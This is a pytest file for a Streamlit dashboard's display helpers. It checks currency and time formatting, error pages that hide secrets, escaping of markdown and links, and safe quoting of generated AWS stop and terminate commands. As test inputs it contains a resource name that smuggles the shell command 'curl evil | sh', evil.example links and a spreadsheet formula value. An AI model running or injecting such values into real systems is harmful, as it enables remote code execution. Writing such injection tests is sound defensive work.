"""What people read: money, and text that stays text."""

from datetime import UTC, datetime

import pytest
from streamlit.testing.v1 import AppTest

from ui.components import commands, show, tables


def test_money_has_cents_only_where_they_matter() -> None:
    assert [show.usd(v) for v in (12345.6, 3.5, -2, None)] == [
        "$12,346",
        "$3.50",
        "−$2.00",
        "unknown",
    ]


def test_times_are_the_viewers(monkeypatch: pytest.MonkeyPatch) -> None:
    late = datetime(2026, 3, 10, 22, 30, tzinfo=UTC)
    for zone, said, day in (
        ("Asia/Tokyo", "2026-03-11 07:30", "2026-03-11"),
        ("America/New_York", "2026-03-10 18:30", "2026-03-10"),
        ("no/such_zone", "2026-03-10 22:30", "2026-03-10"),
    ):
        monkeypatch.setattr("streamlit.runtime.context.ContextProxy.timezone", zone)
        assert (show.when(late), show.day(late)) == (said, day)
        assert f"{tables.frame([{'t': late}])['t'][0]:%Y-%m-%d %H:%M}" == said


def test_an_error_page_repeats_nothing_of_the_error() -> None:
    page = AppTest.from_string("raise ValueError('MARKED-SECRET')").run()
    assert "MARKED-SECRET" not in str(page.exception[0])


def test_text_does_not_become_markdown_or_links() -> None:
    assert show.plain("a*b $5 <i>") == r"a\*b \$5 \<i\>"
    assert "@" not in show.plain("ada@example.com").replace("\N{WORD JOINER}@", "")


def test_commands_end_only_what_still_runs() -> None:
    def thing(name: str, kind: str, stopped: object = None) -> dict[str, object]:
        return {
            "resource_id": name,
            "resource_type": kind,
            "region": "eu-west-1",
            "stopped_at": stopped,
        }

    text = commands.to_stop(
        [
            thing("i-1", "ec2_instance"),
            thing("i-2", "ec2_instance"),
            thing("i-3", "ec2_instance", "yesterday"),
            thing("arn:aws:rds:eu-west-1:1:db:big", "rds_instance"),
            thing("x", "never heard of"),
        ]
    )
    assert text.splitlines() == [
        "aws rds stop-db-instance --region eu-west-1 --db-instance-identifier big",
        "aws ec2 terminate-instances --region eu-west-1 --instance-ids i-1 i-2",
    ]


def test_a_name_that_is_a_command_stays_a_name() -> None:
    sly = {
        "resource_id": "x; curl evil | sh",
        "resource_type": "kinesis_stream",
        "region": "eu-west-1",
        "stopped_at": None,
    }
    assert commands.to_stop([sly]).endswith("--stream-name 'x; curl evil | sh'")


def test_links_and_icons_in_names_stay_text() -> None:
    shown = show.plain("www.evil.example http://evil.example :material/lock: [x](y)")
    assert "www." not in shown
    assert "http:" not in shown
    assert ":material" not in shown.replace(r"\:", "")


def test_no_cell_of_an_export_is_a_formula() -> None:
    text = tables.csv_text([{"actor": "=HYPERLINK(1)", "n": -3, "who": ["@a", "b"], "t": None}])
    assert text == "actor,n,who,t\r\n'=HYPERLINK(1),-3,\"'@a, b\",\r\n"
